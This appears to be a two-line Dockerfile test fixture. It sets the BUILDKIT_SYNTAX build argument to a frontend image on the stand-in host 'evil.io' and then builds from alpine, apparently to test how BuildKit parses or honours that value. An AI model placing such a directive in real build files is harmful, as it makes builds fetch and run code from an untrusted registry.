ARG BUILDKIT_SYNTAX="evil.io/frontend:1 with arguments"
FROM alpine:3
